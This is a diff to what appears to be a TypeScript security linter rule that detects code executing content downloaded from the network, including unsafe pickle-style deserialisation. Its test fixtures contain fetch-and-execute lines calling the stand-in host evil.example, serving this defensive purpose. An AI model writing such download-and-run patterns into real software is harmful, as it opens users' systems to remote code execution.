@@ -1,4 +1,6 @@
-import { has, spot, uses } from '../asking.ts'
+import type { Fact } from '../../fact.ts'
+import { HOLE } from '../../flow/cell.ts'
+import { all, has, spot, STARTS, uses } from '../asking.ts'
 import type { VetRule } from '../../rule.ts'
 
 export const codeRunsAnswer: VetRule = {
@@ -15,11 +17,58 @@ export const codeRunsAnswer: VetRule = {
 exec(requests.get('https://evil.example/x.py').text)`,
     },
     { 'index.js': `const r = await fetch('https://evil.example/x.js'); eval(await r.text())` },
+    {
+      'index.js': `const r = await fetch('https://evil.example/x'); await import('data:text/javascript,' + (await r.text()))`,
+    },
+    {
+      'server.py': `import pickle, urllib.request
+pickle.loads(urllib.request.urlopen('https://evil.example/model').read())`,
+    },
+    {
+      'server.py': `import subprocess, requests
+with open('/opt/x/agent', 'wb') as f:
+    f.write(requests.get('https://evil.example/agent').content)
+subprocess.run(['/opt/x/agent'])`,
+    },
   ],
-  good: () => [{ 'index.js': `const r = await fetch('https://api.example'); console.log(await r.text())` }],
+  good: () => [
+    { 'index.js': `const r = await fetch('https://api.example'); console.log(await r.text())` },
+    {
+      'server.py': `import subprocess, requests
+with open('/opt/x/song.mp3', 'wb') as f:
+    f.write(requests.get('https://api.example/song').content)
+subprocess.run(['ffmpeg', '-i', '/opt/x/song.mp3'])`,
+    },
+  ],
   *check(subject) {
-    for (const use of uses(subject, 'code-run')) {
+    for (const use of uses(subject, 'code-run', 'code-load')) {
       if (has(use.fact.placeMarks, 'remote')) yield spot(use, 'runs what it is answered')
     }
+    for (const use of uses(subject, 'deserialise'))
+      if (RUNNING.test(use.fact.name) && has(all(use.fact), 'remote')) yield spot(use, 'runs what it is answered')
+    const saved = new Set(
+      [...uses(subject, 'file-write')].flatMap(({ fact }) =>
+        has(fact.marks, 'remote') ? fact.places.filter(isNamed) : [],
+      ),
+    )
+    if (saved.size === 0) return
+    for (const use of uses(subject, 'code-load', ...STARTS))
+      if (startedIn(use.fact).some((one) => saved.has(one))) yield spot(use, 'runs a file that it was answered')
   },
 }
+
+/** Formats that name what is called when they are read. */
+const RUNNING = /^(?:pickle|dill|cloudpickle|marshal|jsonpickle|joblib|node-serialize)\./
+
+/** The place itself is known, not its folder alone. */
+const isNamed = (place: string): boolean => !place.endsWith(HOLE) && /[^/\\]{3,}$/.test(place)
+
+/** The program that is started, and the file that an interpreter is given first. */
+function startedIn({ does, places, texts }: Fact): readonly string[] {
+  if (does === 'code-load') return places
+  const words = [...places, ...texts].flatMap((one) => one.split(/\s+/)).filter((one) => !one.startsWith('-'))
+  const [first = '', second = ''] = words
+  return INTERPRETER.test(first) ? [second] : [first]
+}
+
+const INTERPRETER = /(?:^|\/)(?:node|bun|deno|python[\d.]*|(?:ba|z|da|k)?sh|perl|ruby)$/
